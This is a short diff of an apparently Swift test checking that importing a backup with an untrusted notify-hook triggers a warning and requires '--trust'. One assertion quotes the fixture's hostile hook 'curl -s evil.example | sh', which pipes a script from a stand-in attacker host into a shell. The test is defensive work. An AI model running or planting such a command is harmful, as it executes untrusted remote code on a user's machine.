@@ -46,7 +46,7 @@ import Testing
         #expect(stored[.notifyHook] == "notify-send mine")
         #expect(result.stderr.contains("Warning: the backup sets notify-hook"), "\(result.stderr)")
         #expect(result.stderr.contains("curl -s evil.example | sh") && result.stderr.contains("--trust"))
-        #expect(result.stdout == "Imported 1 settings and 0 log entries.\n")
+        #expect(result.stdout.hasPrefix("Imported 1 setting and 0 log entries;"), "\(result.stdout)")
     }
 
     @Test func importWithTrustTakesTheHookAndSaysSo() async throws {
